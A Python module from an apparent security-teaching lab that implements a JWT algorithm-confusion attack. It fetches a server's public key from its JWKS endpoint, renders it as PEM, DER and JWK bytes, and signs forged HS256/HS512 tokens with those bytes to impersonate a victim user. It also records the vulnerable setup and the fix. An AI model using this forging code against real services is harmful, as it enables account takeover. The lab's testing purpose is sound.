"""What if the public key is used as if it were a secret?"""

from __future__ import annotations

import json
from collections.abc import Iterable
from typing import Any

from cryptography.hazmat.primitives import serialization
from jwt import PyJWK

from lab.attacks.attack import SESSIONS, verdicts
from lab.attacks.forged.forging import Forgery, parts_of
from lab.attacks.forged.guess_the_secret import hmac_signed
from lab.attacks.person import Person
from lab.attacks.scene import Scene

Encoding, Format = serialization.Encoding, serialization.PublicFormat


class SignWithThePublicKey(Forgery):
    """Algorithm confusion: the server verifies HS256 with the bytes that it has as a key."""

    key = "sign-with-the-public-key"
    title = "Use the public key as a secret (algorithm confusion)"
    catalogue = ("A11",)
    story = (
        "Mallory fetches the public key, which is there for everybody, and makes HS256 signatures "
        "with it as the secret: as PEM with and without its last line end, as DER, as JWK."
    )
    expected = verdicts(succeeds=("jwt-open-algorithms",), does_not_apply=SESSIONS)
    gained = "The server took the algorithm from the token and the public key for the secret."
    learned = (
        "Each key of the ring is bound to one algorithm; another one in the header is refused."
    )

    def forged(self, scene: Scene, mallory: Person, victim: str) -> Iterable[tuple[str, str]]:
        header, claims, _ = parts_of(mallory.access_token or "")
        answer = mallory.raw("The public keys, for everybody.", "GET", "/.well-known/jwks.json")
        jwk = next(key for key in answer.json()["keys"] if key["kid"] == header["kid"])
        for name, secret in forms_of(jwk).items():
            for algorithm in ("HS256", "HS512"):
                text = hmac_signed(header, claims | {"sub": victim}, secret, algorithm)
                yield f"{algorithm} with the public key as {name}.", text


def forms_of(jwk: dict[str, Any]) -> dict[str, bytes]:
    """One public key in the forms that programs hold keys in."""
    public = PyJWK(jwk).key
    pem = public.public_bytes(Encoding.PEM, Format.SubjectPublicKeyInfo)
    return {
        "PEM": pem,
        "PEM without its last line end": pem.rstrip(b"\n"),
        "DER": public.public_bytes(Encoding.DER, Format.SubjectPublicKeyInfo),
        "JWK": json.dumps(jwk).encode(),
        "JWK without spaces": json.dumps(jwk, separators=(",", ":")).encode(),
    }
